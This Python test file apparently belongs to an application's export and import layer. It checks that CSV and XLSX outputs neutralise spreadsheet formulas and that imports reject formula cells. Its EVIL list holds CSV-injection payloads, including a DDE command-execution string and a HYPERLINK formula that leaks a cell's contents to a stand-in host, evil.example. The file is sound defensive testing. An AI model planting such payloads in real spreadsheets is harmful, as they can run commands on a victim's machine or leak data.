"""Exports never carry live formulas and imports refuse formula cells (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy.orm import Session

from plateau.errors import ValidationFailed
from plateau.tabular import Column, read_table, to_csv, to_xlsx

EVIL = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
]
COLUMNS = [Column("name", "名称"), Column("amount", "金额")]


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_neutralises_formula_text_and_keeps_numbers() -> None:
    rows = [{"name": v, "amount": -5} for v in EVIL] + [{"name": "普通名称", "amount": 3.5}]
    cells = _csv_cells(to_csv(COLUMNS, rows))
    assert [r[0] for r in cells[1:]] == ["'" + v for v in EVIL] + ["普通名称"]
    assert {r[1] for r in cells[1:-1]} == {"-5"} and cells[-1][1] == "3.5"


def test_xlsx_stores_formula_text_as_text_and_numbers_as_numbers() -> None:
    rows = [{"name": v, "amount": -5} for v in EVIL]
    sheet = load_workbook(io.BytesIO(to_xlsx(COLUMNS, rows))).active
    assert sheet is not None
    body = list(sheet.iter_rows(min_row=2))
    assert [(r[0].value, r[0].data_type) for r in body] == [(v, "s") for v in EVIL]
    assert {(r[1].value, r[1].data_type) for r in body} == {(-5, "n")}


def _workbook(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_an_xlsx_import_refuses_formula_cells_with_their_place() -> None:
    data = _workbook([["name", "uscc"], ["好的", "X"], ["=1+1", "Y"]])
    with pytest.raises(ValidationFailed) as caught:
        read_table(data, "x.xlsx")
    assert "公式" in caught.value.message
    [error] = caught.value.errors
    assert (error.row, error.field, error.value) == (3, "name", "=1+1")
    assert "公式" in error.message and "不能为空" not in error.message


def test_an_xlsx_import_without_formulas_reads_as_before() -> None:
    table = read_table(_workbook([["Name", "n"], ["好的", 7], [None, None]]), "x.xlsx")
    assert table.headers == ["name", "n"] and table.rows == [(2, {"name": "好的", "n": "7"})]


def test_registry_exports_of_a_formula_name_are_text(client: TestClient, session: Session) -> None:
    from tests.builders import bearer, make_token, make_user
    from tests.registry.builders import make_enterprise

    make_enterprise(session, n=77, name=EVIL[1])
    token = make_token(session, make_user(session, "region_admin"))
    session.commit()
    params = {"q": "HYPERLINK"}
    as_csv = client.get(
        "/api/registry/enterprises", params={**params, "format": "csv"}, headers=bearer(token)
    )
    assert [r[1] for r in _csv_cells(as_csv.content)[1:]] == ["'" + EVIL[1]]
    as_xlsx = client.get(
        "/api/registry/enterprises", params={**params, "format": "xlsx"}, headers=bearer(token)
    )
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=2)
    assert (cell.value, cell.data_type) == (EVIL[1], "s")


def test_a_label_index_neutralises_a_formula_lot() -> None:
    from plateau.trace.lineage.labels import codes as labels

    [label] = labels.make_labels(
        gtin="06901234000016", lot="=1+2", serials=None, base_url="https://id.example"
    )
    with zipfile.ZipFile(io.BytesIO(labels.zip_archive([label]))) as archive:
        index = archive.read(next(n for n in archive.namelist() if n.endswith(".csv")))
    rows = list(csv.reader(io.StringIO(index.decode("utf-8-sig"))))
    assert rows[1][2] == "'=1+2"


def test_no_formulas_turns_every_formula_string_of_a_workbook_into_text() -> None:
    from plateau.tabular import no_formulas

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([EVIL[0], 1])
    wb.create_sheet("two").append([EVIL[1]])
    no_formulas(wb)
    out = io.BytesIO()
    wb.save(out)
    again = load_workbook(io.BytesIO(out.getvalue()))
    cells = [c for s in again.worksheets for row in s.iter_rows() for c in row]
    assert [(c.value, c.data_type) for c in cells] == [(EVIL[0], "s"), (1, "n"), (EVIL[1], "s")]
